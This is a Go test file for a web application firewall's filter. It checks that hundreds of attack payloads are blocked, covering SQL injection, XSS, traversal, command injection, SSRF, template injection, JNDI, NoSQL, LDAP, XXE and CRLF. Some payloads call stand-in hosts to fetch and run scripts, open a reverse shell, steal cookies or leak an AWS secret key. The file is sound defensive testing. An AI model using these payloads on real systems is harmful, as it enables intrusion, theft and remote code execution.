package filter

import (
	"net/url"
	"testing"
)

// variantCase is an attack variant that must be blocked on its own at the
// given paranoia level (0: the default, 1).
type variantCase struct {
	kind        Kind
	name, value string
	paranoia    int
}

// variantCases: a second, independent table of attack variants per class,
// written for generalisation (obfuscations and contexts attackCases does
// not have). Each must reach the default threshold on its own.
var variantCases = []variantCase{
	// SQLi: UNION VALUES and its siblings.
	{KindQueryValue, "id", "x' union values(1)--", 0},
	{KindQueryValue, "id", "1 union all values row(1,2)", 0},
	{KindQueryValue, "id", "1' union table users--", 0},
	{KindQueryValue, "id", "1) union (select 1,2", 0},
	// SQLi: boolean and time-based blind, numeric and string contexts.
	{KindQueryValue, "id", "1 and 1=2", 0},
	{KindQueryValue, "id", "7 AND (SELECT 1 FROM (SELECT SLEEP(5))a)", 0},
	{KindQueryValue, "id", "1 or sleep(5)", 0},
	{KindQueryValue, "id", "1' and substring(version(),1,1)='5", 0},
	{KindQueryValue, "id", "1 and ascii(substr((select user()),1,1))>64", 0},
	{KindQueryValue, "id", "1 AND 3581=(SELECT 3581 FROM PG_SLEEP(5))", 0},
	{KindQueryValue, "name", "admin' and '1'='1", 0},
	{KindQueryValue, "name", "x' or 'x'='x", 0},
	{KindQueryValue, "id", "1 or true", 0},
	{KindQueryValue, "id", "1' or true-- -", 0},
	{KindQueryValue, "id", "1 AND IF(1=1,SLEEP(5),0)", 0},
	{KindQueryValue, "id", "1';SELECT pg_sleep(5)--", 0},
	{KindQueryValue, "id", "1); WAITFOR DELAY '00:00:05'--", 0},
	{KindQueryValue, "id", "1 and (select 1 from dual where 1=1)=1", 0},
	// SQLi: stacked queries.
	{KindQueryValue, "id", "1; update users set role='admin' where id=1", 0},
	{KindQueryValue, "id", "1';insert into users(name) values('x')--", 0},
	{KindQueryValue, "id", "1; exec sp_configure 'show advanced options',1", 0},
	// SQLi: comment and whitespace obfuscation.
	{KindQueryValue, "id", "1/**/or/**/1=1", 0},
	{KindQueryValue, "id", "-1/**/UNION/**/ALL/**/SELECT/**/1,2", 0},
	{KindQueryValue, "id", "1%0aunion%0aselect%0a1,2", 0},
	{KindQueryValue, "id", "1%09and%092=2", 0},
	{KindQueryValue, "id", "1 /*!50000union*/ /*!50000select*/ 1,2", 0},
	{KindQueryValue, "id", "/*!50000select*/ password from users", 0},
	{KindQueryValue, "id", "1'||(select user from dual)||'", 0},
	// SQLi: hex, char() concatenation, Oracle ||, JSON operators.
	{KindQueryValue, "id", "1 union select 0x61646d696e,2", 0},
	{KindQueryValue, "id", "' or username=0x61646d696e-- ", 0},
	{KindQueryValue, "id", "1 and char(97)+char(100)+char(109)='adm'", 0},
	{KindQueryValue, "q", "x'||chr(65)||chr(66)||'", 0},
	{KindQueryValue, "q", "' || (select banner from v$version where rownum=1) || '", 0},
	{KindQueryValue, "q", "1 and json_extract(data,'$.role')='admin'", 0},
	{KindQueryValue, "q", "' or data->>'role'='admin'--", 0},
	{KindQueryValue, "q", "1' and updatexml(1,concat(0x7e,(select user())),1)--", 0},
	{KindQueryValue, "q", "1 order by 10--", 0},
	{KindQueryValue, "q", "1' group by 1,2,3--+", 0},
	{KindQueryValue, "q", "1 procedure analyse(extractvalue(1,1),1)", 0},
	{KindBodyValue, "filter", "name' OR 1=1 #", 0},
	{KindCookieValue, "lang", "en' AND 1=CONVERT(int,(SELECT @@version))--", 0},
	{KindHeaderValue, "X-Forwarded-For", "1.2.3.4' and sleep(5) and '1'='1", 0},

	// SQLi: more set operators and blind timing per database.
	{KindQueryValue, "id", "1' union(values(1,2))--", 0},
	{KindQueryValue, "id", "1' intersect select 1--", 0},
	{KindQueryValue, "id", "1 except select password from users", 0},
	{KindQueryValue, "id", "1' AND 1=(SELECT 1 FROM PG_SLEEP(5))--", 0},
	{KindQueryValue, "id", "1 RLIKE SLEEP(5)", 0},
	{KindQueryValue, "id", "1 and 1=dbms_pipe.receive_message('a',5)", 0},
	{KindQueryValue, "id", "1 and 1=like('ABC',upper(hex(randomblob(300000000))))", 0},
	{KindQueryValue, "id", "1 and benchmark(5000000,md5(1))", 0},
	{KindQueryValue, "id", "(select*from(select(sleep(5)))a)", 0},
	{KindQueryValue, "id", "1'||pg_sleep(5)--", 0},
	{KindQueryValue, "id", "if(now()=sysdate(),sleep(5),0)", 0},
	{KindQueryValue, "id", "1 and (select substring(password,1,1) from users limit 1)='a'", 0},
	{KindQueryValue, "id", "1 AND 1=CAST((SELECT version()) AS int)", 0},
	{KindQueryValue, "id", "-1 or 1 like 1", 0},
	{KindQueryValue, "id", "1' or '1' like '1", 0},
	{KindQueryValue, "id", "1 or 2>1", 0},
	{KindQueryValue, "id", "1 || 1=1", 0},
	{KindQueryValue, "sort", "(CASE WHEN (1=1) THEN name ELSE price END)", 0},
	{KindQueryValue, "sort", "name,(select 1 from dual where sleep(5))", 0},
	// XSS: more handlers and schemes.
	{KindQueryValue, "q", "<details/open/ontoggle=alert(1)>", 0},
	{KindQueryValue, "q", "<img src=x oNeRrOr=alert&lpar;1&rpar;>", 0},
	{KindQueryValue, "q", "<iframe src=\"javascript:alert(1)\">", 0},
	{KindQueryValue, "q", "<embed src=javascript:alert(1)>", 0},
	{KindQueryValue, "q", "<form><button formaction=javascript:alert(1)>x</button></form>", 0},
	{KindQueryValue, "q", "<x contenteditable onblur=alert(1)>lose focus</x>", 0},
	{KindQueryValue, "q", "<img src=x onerror=alert?.(1)>", 0},
	{KindQueryValue, "q", "<svg><animatetransform onbegin=alert(1) attributename=transform>", 0},
	{KindQueryValue, "q", "<img src=x onerror=window.onerror=alert;throw 1>", 0},
	{KindQueryValue, "q", "<a href=\"data:text/html,<script>alert(1)</script>\">x</a>", 0},
	{KindQueryValue, "q", "\" onmouseover=\"alert(1)", 0},
	{KindQueryValue, "q", "' accesskey='x' onclick='alert(1)", 0},
	{KindQueryValue, "q", "<script src=//evil.example/x.js></script>", 0},
	{KindQueryValue, "q", "<img src=x onerror=eval(location.hash.slice(1))>", 0},
	{KindQueryValue, "q", "<scr<script>ipt>alert(1)</scr</script>ipt>", 0},
	{KindQueryValue, "q", "%253Cscript%253Ealert(1)%253C%252Fscript%253E", 0},
	{KindQueryValue, "q", "\\x3cscript\\x3ealert(1)\\x3c/script\\x3e", 0},
	// Traversal: more encodings.
	{KindQueryValue, "file", "..%c1%9c..%c1%9c..%c1%9cboot.ini", 0},
	{KindQueryValue, "file", "%2e%2e%2f%2e%2e%2f%2e%2e%2fetc%2fpasswd%00.png", 0},
	{KindQueryValue, "file", "/..%ef%bc%8f..%ef%bc%8f..%ef%bc%8fetc/passwd", 0},
	{KindQueryValue, "file", "....//....//etc/passwd", 0},
	{KindPath, "", "/%2e%2e/%2e%2e/%2e%2e/etc/passwd", 0},
	// RCE: more shells.
	{KindQueryValue, "host", "x;/???/??t /???/p??s??", 0},
	{KindQueryValue, "host", "x;echo${IFS}dGVzdA==|base64${IFS}-d|sh", 0},
	{KindQueryValue, "host", "x\nid", 0},
	{KindQueryValue, "host", "x;$(printf '\\151\\144')", 0},
	{KindQueryValue, "host", "x & ping -n 5 127.0.0.1", 0},
	{KindQueryValue, "host", "x | powershell.exe -nop -w hidden -c \"whoami\"", 0},
	{KindQueryValue, "host", "x;nslookup $(whoami).x.example", 0},

	// XSS: event handlers on unusual tags.
	{KindQueryValue, "q", "<video><source onerror=alert(1)>", 0},
	{KindQueryValue, "q", "<body onpageshow=alert(1)>", 0},
	{KindQueryValue, "q", "<marquee onstart=alert(1)>", 0},
	{KindQueryValue, "q", "<input autofocus onfocusin=alert(1)>", 0},
	{KindQueryValue, "q", "<xss onpointerenter=alert(1)>hover</xss>", 0},
	{KindQueryValue, "q", "<keygen autofocus onfocus=alert(1)>", 0},
	{KindQueryValue, "q", "<audio src/onerror=alert(1)>", 0},
	{KindQueryValue, "q", "<custom-el tabindex=1 oncontentvisibilityautostatechange=alert(1) style=content-visibility:auto>", 0},
	{KindQueryValue, "q", "<a id=x tabindex=1 onbeforeinput=alert(1) contenteditable>", 0},
	// XSS: javascript: with entity, tab and newline obfuscation.
	{KindQueryValue, "url", "java&#x09;script:alert(1)", 0},
	{KindQueryValue, "url", "&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;alert(1)", 0},
	{KindQueryValue, "url", "jav&NewLine;ascript&colon;alert(1)", 0},
	{KindQueryValue, "url", "javascript%3Aalert%281%29", 0},
	{KindQueryValue, "url", " javascript:alert`1`", 0},
	{KindQueryValue, "url", "javascript://%0aalert(1)", 0},
	{KindQueryValue, "q", "<a href=\"jav&#x0A;ascript:alert(1)\">x</a>", 0},
	// XSS: srcdoc, SVG, MathML.
	{KindQueryValue, "q", "<iframe srcdoc=\"&lt;img src=x onerror=alert(1)&gt;\">", 0},
	{KindQueryValue, "q", "<svg><animate onbegin=alert(1) attributeName=x dur=1s>", 0},
	{KindQueryValue, "q", "<svg><a xlink:href=\"javascript:alert(1)\"><text x=20 y=20>x</text></a></svg>", 0},
	{KindQueryValue, "q", "<svg><set attributeName=href to=javascript:alert(1) />", 0},
	{KindQueryValue, "q", "<math><maction actiontype=statusline xlink:href=javascript:alert(1)>x</maction></math>", 0},
	{KindQueryValue, "q", "<svg><script>alert(1)</script></svg>", 0},
	{KindBodyValue, "svg", "<?xml version=\"1.0\"?><x:script xmlns:x=\"http://www.w3.org/1999/xhtml\">alert(1)</x:script>", 0},
	{KindBodyValue, "svg", "<?xml version=\"1.0\"?><svg xmlns=\"http://www.w3.org/2000/svg\"><foreignObject><iframe xmlns=\"http://www.w3.org/1999/xhtml\" src=\"javascript:alert(1)\"/></foreignObject></svg>", 0},
	{KindBodyValue, "svg", "<!DOCTYPE svg PUBLIC \"-//W3C//DTD SVG 1.1//EN\" \"http://www.w3.org/Graphics/SVG/1.1/DTD/svg11.dtd\"><svg xmlns=\"http://www.w3.org/2000/svg\"><image href=x onerror=alert(1) /></svg>", 0},
	{KindQueryValue, "q", "<object data=\"data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==\">", 0},
	// XSS: template literals and script-context payloads.
	{KindQueryValue, "q", "${alert(document.domain)}", 0},
	{KindQueryValue, "q", "';alert(String.fromCharCode(88,83,83))//", 0},
	{KindQueryValue, "q", "\"-alert(1)-\"", 0},
	{KindQueryValue, "q", "</script><script>alert(1)</script>", 0},
	{KindQueryValue, "q", "{{constructor.constructor('alert(1)')()}}", 0},
	{KindQueryValue, "q", "\";window['ev'+'al']('ale'+'rt(1)');//", 0},
	{KindQueryValue, "q", "'-setTimeout`alert\\x281\\x29`-'", 0},
	{KindQueryValue, "q", "\"><img src=x onerror=import('//evil.example/x.js')>", 0},
	// XSS: DOM-clobbering-ish and attribute injections.
	{KindQueryValue, "q", "<a id=defaultAvatar><a id=defaultAvatar name=avatar href=\"cid:&quot;onerror=alert(1)//\">", 0},
	{KindQueryValue, "q", "\" style=\"animation-name:x\" onanimationstart=\"alert(1)", 0},
	{KindQueryValue, "q", "<img src=x id=x onerror=\"location='//evil.example/?c='+document.cookie\">", 0},
	{KindQueryValue, "q", "<meta http-equiv=\"refresh\" content=\"0;url=javascript:alert(1)\">", 0},

	// Path traversal: double encoding, overlong UTF-8, ..;/, UNC, file://, Windows.
	{KindQueryValue, "file", "%252e%252e%252f%252e%252e%252f%252e%252e%252fetc%252fpasswd", 0},
	{KindQueryValue, "file", "%c0%ae%c0%ae/%c0%ae%c0%ae/%c0%ae%c0%ae/etc/passwd", 0},
	{KindQueryValue, "file", "%e0%80%ae%e0%80%ae%e0%80%af%e0%80%ae%e0%80%ae%e0%80%afetc%e0%80%afpasswd", 0},
	{KindPath, "", "/app/..;/..;/..;/manager/html", 0},
	{KindPath, "", "/static/..%252f..%252f..%252fetc/passwd", 0},
	{KindPath, "", "/files/%2e%2e%5c%2e%2e%5c%2e%2e%5cwindows%5cwin.ini", 0},
	{KindQueryValue, "file", "\\\\attacker.example\\share\\x.dll", 0},
	{KindQueryValue, "file", "file:///etc/passwd", 0},
	{KindQueryValue, "file", "file://localhost/c:/windows/win.ini", 0},
	{KindQueryValue, "file", "..\\..\\..\\..\\inetpub\\wwwroot\\web.config", 0},
	{KindQueryValue, "file", "..././..././..././etc/passwd", 0},
	{KindQueryValue, "file", "/var/www/../../etc/shadow", 0},
	{KindQueryValue, "file", "....\\\\....\\\\....\\\\windows\\\\system.ini", 0},
	{KindQueryValue, "file", "/proc/self/cmdline", 0},
	{KindQueryValue, "file", "C:\\Windows\\System32\\config\\SAM", 0},
	{KindQueryValue, "file", "..%u2216..%u2216..%u2216etc%u2216passwd", 0},
	{KindQueryValue, "file", "..∖..∖..∖inetpub∖wwwroot∖web.config", 0},
	{KindQueryValue, "file", "..∕..∕..∕etc∕shadow", 0},

	// Command injection.
	{KindQueryValue, "host", "127.0.0.1;cat$IFS/etc/passwd", 0},
	{KindQueryValue, "host", "127.0.0.1;cat${IFS}/etc/passwd", 0},
	{KindQueryValue, "host", "`id`", 0},
	{KindQueryValue, "host", "a.example$(id)", 0},
	{KindQueryValue, "host", "x;${PATH:0:1}bin${PATH:0:1}sh", 0},
	{KindQueryValue, "host", "x;{cat,/etc/passwd}", 0},
	{KindQueryValue, "host", "x%0acat%20/etc/passwd", 0},
	{KindQueryValue, "host", "x|powershell -enc SQBFAFgA", 0},
	{KindQueryValue, "host", "x & cmd /c whoami", 0},
	{KindQueryValue, "host", "x|whoami", 0},
	{KindQueryValue, "host", "x;c'a't /etc/passwd", 0},
	{KindQueryValue, "host", "x;c\\at /e??/p?sswd", 0},
	{KindQueryValue, "host", "x||curl http://203.0.113.7/s.sh|sh", 0},
	{KindQueryValue, "host", "x;bash -i >& /dev/tcp/203.0.113.7/4444 0>&1", 0},
	{KindQueryValue, "host", "$(curl -s 203.0.113.7/x|bash)", 0},
	{KindQueryValue, "host", "x && ping -c 10 127.0.0.1", 0},
	{KindQueryValue, "host", "x;IEX(New-Object Net.WebClient).DownloadString('http://203.0.113.7/a')", 0},
	{KindQueryValue, "host", "x | Invoke-WebRequest -Uri http://203.0.113.7", 0},
	{KindQueryValue, "host", "x;python -c 'import os;os.system(\"id\")'", 0},

	// SSRF.
	{KindQueryValue, "url", "http://2130706433/admin", 0},
	{KindQueryValue, "url", "http://017700000001/", 0},
	{KindQueryValue, "url", "http://0x7f000001/", 0},
	{KindQueryValue, "url", "http://0x7f.0x0.0x0.0x1/", 0},
	{KindQueryValue, "url", "http://[::ffff:127.0.0.1]/", 0},
	{KindQueryValue, "url", "http://[::ffff:a9fe:a9fe]/latest/meta-data/", 0},
	{KindQueryValue, "url", "http://0/", 2},
	{KindQueryValue, "url", "http://169.254.169.254/latest/meta-data/iam/", 0},
	{KindQueryValue, "url", "http://metadata.google.internal/computeMetadata/v1/", 0},
	{KindQueryValue, "url", "gopher://127.0.0.1:6379/_FLUSHALL", 0},
	{KindQueryValue, "url", "http://127.1/", 0},
	{KindQueryValue, "url", "http://[0:0:0:0:0:ffff:7f00:1]/", 0},
	{KindQueryValue, "url", "http://127.0.0.1.nip.io/", 2},
	{KindQueryValue, "url", "http://169.254.169.254.nip.io/latest/meta-data", 0},
	{KindQueryValue, "url", "dict://127.0.0.1:11211/stat", 0},
	{KindQueryValue, "url", "http://①②⑦.⓪.⓪.①/admin", 0},
	{KindQueryValue, "url", "http://127。0。0。1/admin", 0},
	{KindQueryValue, "url", "http://169。254。169。254/latest/meta-data/", 0},

	// SSTI.
	{KindQueryValue, "name", "{{7*'7'}}", 0},
	{KindQueryValue, "name", "{{config.__class__.__init__.__globals__['os'].popen('id').read()}}", 0},
	{KindQueryValue, "name", "{{ self._TemplateReference__context.cycler.__init__.__globals__.os }}", 0},
	{KindQueryValue, "name", "{{_self.env.registerUndefinedFilterCallback(\"exec\")}}{{_self.env.getFilter(\"id\")}}", 0},
	{KindQueryValue, "name", "{{['id']|filter('system')}}", 0},
	{KindQueryValue, "name", "<#assign ex=\"freemarker.template.utility.Execute\"?new()>${ex(\"id\")}", 0},
	{KindQueryValue, "name", "#set($x='')#set($rt=$x.class.forName('java.lang.Runtime'))", 0},
	{KindQueryValue, "name", "<%= `id` %>", 0},
	{KindQueryValue, "name", "<%= File.open('/etc/passwd').read %>", 0},
	{KindQueryValue, "name", "${T(java.lang.Runtime).getRuntime().exec('id')}", 0},
	{KindQueryValue, "name", "*{T(java.lang.System).getenv()}", 0},
	{KindQueryValue, "name", "#{7*7}", 0},
	{KindQueryValue, "name", "${{7*7}}", 0},
	{KindQueryValue, "name", "{{request.application.__globals__.__builtins__.__import__('os').popen('id').read()}}", 0},
	{KindQueryValue, "name", "{% import os %}{{ os.system('id') }}", 0},
	{KindQueryValue, "name", "${\"freemarker.template.utility.Execute\"?new()(\"id\")}", 0},

	// JNDI obfuscations.
	{KindHeaderValue, "X-Api-Version", "${jndi:ldap://203.0.113.7/a}", 0},
	{KindHeaderValue, "X-Api-Version", "${${lower:j}ndi:${lower:l}dap://x.example/a}", 0},
	{KindHeaderValue, "X-Api-Version", "${${::-j}${::-n}${::-d}${::-i}:rmi://x.example/a}", 0},
	{KindHeaderValue, "X-Api-Version", "${${env:NaN:-j}ndi${env:NaN:-:}${env:NaN:-l}dap${env:NaN:-:}//x.example/a}", 0},
	{KindHeaderValue, "X-Api-Version", "${jndi:dns://x.example/${env:AWS_SECRET_ACCESS_KEY}}", 0},
	{KindHeaderValue, "X-Api-Version", "%24%7Bjndi%3Aldap%3A%2F%2Fx.example%2Fa%7D", 0},
	{KindHeaderValue, "X-Api-Version", "${j${k8s:k5:-ND}i${sd:k5:-:}ldap://x.example/a}", 0},
	{KindHeaderValue, "X-Api-Version", "${${upper:j}ndi:ldaps://x.example/a}", 0},

	// NoSQL.
	{KindBodyName, "", "password[$ne]", 0},
	{KindQueryName, "", "user[$gt]", 0},
	{KindQueryName, "", "a[$regex]", 0},
	{KindBodyName, "", "$where", 0},
	{KindBodyValue, "$where", "this.password.match(/.*/) || sleep(5000)", 0},
	{KindQueryValue, "q", "'; return db.users.find(); var x='", 0},
	{KindQueryValue, "q", "{\"$gt\": \"\"}", 0},

	// LDAP.
	{KindQueryValue, "user", "*)(uid=*))(|(uid=*", 0},
	{KindQueryValue, "user", "admin)(&(password=*))", 0},
	{KindQueryValue, "user", "*)(objectClass=*", 0},
	{KindQueryValue, "user", "x)(|(cn=*)(userPassword=*))", 0},

	// XXE.
	{KindBodyRaw, "", "<?xml version=\"1.0\"?><!DOCTYPE r [<!ENTITY % p SYSTEM \"http://203.0.113.7/x.dtd\"> %p;]><r/>", 0},
	{KindBodyRaw, "", "<!DOCTYPE foo [<!ENTITY xxe SYSTEM \"file:///etc/passwd\">]><foo>&xxe;</foo>", 0},
	{KindBodyRaw, "", "<foo xmlns:xi=\"http://www.w3.org/2001/XInclude\"><xi:include parse=\"text\" href=\"file:///etc/passwd\"/></foo>", 0},
	{KindBodyRaw, "", "<?xml version=\"1.0\" encoding=\"UTF-7\"?>+ADw-foo+AD4-", 0},
	{KindBodyValue, "xml", "<!DOCTYPE x [<!ENTITY % a SYSTEM \"php://filter/resource=/etc/passwd\">%a;]>", 0},
	{KindBodyRaw, "", "<!DOCTYPE svg PUBLIC \"-//W3C//DTD SVG 1.1//EN\" \"http://203.0.113.7/evil.dtd\"><svg/>", 0},

	// CRLF.
	{KindQueryValue, "next", "/%0d%0aSet-Cookie:%20admin=1", 0},
	{KindQueryValue, "next", "/%0aLocation:%20https://evil.example", 0},
	{KindQueryValue, "next", "/%E5%98%8A%E5%98%8DSet-Cookie:%20x=1", 0},
	{KindQueryValue, "next", "/\r\nContent-Length: 0\r\n\r\nHTTP/1.1 200 OK", 0},
	{KindPath, "", "/redirect%0d%0aX-Injected:%20yes", 0},
	{KindQueryValue, "email", "victim@example.com%0d%0aBcc:%20all@example.com", 0},
	{KindQueryValue, "next", "/%u000dSet-Cookie:x=1", 0},
}

func TestVariantCases(t *testing.T) {
	inspectors := map[int]*Inspector{}
	for _, p := range []int{1, 2} {
		in, err := NewInspector(InspectorOptions{Paranoia: p})
		if err != nil {
			t.Fatal(err)
		}
		inspectors[p] = in
	}
	for _, c := range variantCases {
		p := max(c.paranoia, 1)
		score := 0
		hits := inspectors[p].InspectValue(nil, c.kind, c.name, c.value)
		for _, h := range hits {
			score += h.Score
		}
		if score < DefaultThreshold {
			t.Errorf("not blocked at paranoia %d (score %d): kind %d %s=%q: %v", p, score, c.kind, c.name, c.value, hits)
		}
		if c.kind == KindBodyRaw {
			continue
		}
		// Once more percent-encoded, as a layer that forgot to decode.
		enc := url.QueryEscape(c.value)
		score = 0
		for _, h := range inspectors[p].InspectValue(nil, c.kind, c.name, enc) {
			score += h.Score
		}
		if score < DefaultThreshold {
			t.Errorf("not blocked once encoded at paranoia %d (score %d): %q", p, score, enc)
		}
	}
	t.Logf("%d attack variants blocked, also percent-encoded once more", len(variantCases))
}

// TestVariantRequests: variants that only exist as whole requests (an
// operator as a JSON key, a bracketed query name, an XML body).
func TestVariantRequests(t *testing.T) {
	eng, err := New(Config{})
	if err != nil {
		t.Fatal(err)
	}
	cases := []struct {
		name, method, target, ctype, body string
	}{
		{"nosql operator as json key", "POST", "/login", "application/json", `{"username":"admin","password":{"$ne":null}}`},
		{"nosql $gt in nested json", "POST", "/api/users/search", "application/json", `{"filter":{"age":{"$gt":""},"role":"admin"}}`},
		{"nosql $where in json", "POST", "/api/find", "application/json", `{"$where":"sleep(5000) || true"}`},
		{"nosql operator in query name", "GET", "/login?user=admin&pass[$ne]=x", "", ""},
		{"nosql regex in form name", "POST", "/login", "application/x-www-form-urlencoded", "user=admin&pass%5B%24regex%5D=.%2A"},
		{"sqli union values in json", "POST", "/api/items", "application/json", `{"id":"x' union values(1,2)-- "}`},
		{"xinclude in xml body", "POST", "/soap", "text/xml", `<r xmlns:xi="http://www.w3.org/2001/XInclude"><xi:include href="file:///etc/passwd" parse="text"/></r>`},
		{"parameter entity in xml body", "POST", "/upload", "application/xml", `<?xml version="1.0"?><!DOCTYPE d [<!ENTITY % e SYSTEM "http://203.0.113.7/e.dtd">%e;]><d/>`},
		{"crlf unicode newline in path", "GET", "/r/%E5%98%8A%E5%98%8DSet-Cookie:x=1", "", ""},
		{"traversal with ..;/ in path", "GET", "/app/..;/..;/..;/WEB-INF/web.xml", "", ""},
		{"ssrf ipv6-mapped loopback in json", "POST", "/api/webhooks", "application/json", `{"url":"http://[::ffff:7f00:1]:8080/admin"}`},
		{"jndi in json", "POST", "/api/log", "application/json", `{"msg":"${${lower:j}${upper:n}di:ldap://x.example/a}"}`},
	}
	for _, c := range cases {
		r := newReq(c.method, "http://app.example.com"+c.target, c.ctype, c.body)
		r.RemoteAddr = "198.51.100.9:40000"
		d, err := eng.Inspect(r)
		if err != nil {
			t.Fatalf("%s: %v", c.name, err)
		}
		if !d.Blocked {
			t.Errorf("%s: not blocked (score %d): %+v", c.name, d.Score, d.Matches)
		}
	}
}

// FuzzGeneralisationHelpers: the host and phrase parsers added for the
// variant tables must not panic on any input, and a value must inspect
// the same way twice (no state kept between calls).
func FuzzGeneralisationHelpers(f *testing.F) {
	for _, s := range []string{"127.0.0.1.nip.io", "10-0-0-1.sslip.io", "a.b.c.d.e.nip.io", ".nip.io", "x.localtest.me", "::ffff:7f00:1", "::127.0.0.1", `"union station" OR "x"`, `"`, `""`, `"a b"`, `\\10.0.0.1\c$\x`, "x' union values(1)--"} {
		f.Add(s)
	}
	in, err := NewInspector(InspectorOptions{Paranoia: 2})
	if err != nil {
		f.Fatal(err)
	}
	f.Fuzz(func(t *testing.T, s string) {
		wildcardDNSHost(s)
		phraseQuery(s)
		parseHostIP(s)
		a := in.InspectValue(nil, KindQueryValue, "file", s)
		b := in.InspectValue(nil, KindQueryValue, "file", s)
		if len(a) != len(b) {
			t.Fatalf("inspecting %q twice: %v then %v", s, a, b)
		}
	})
}
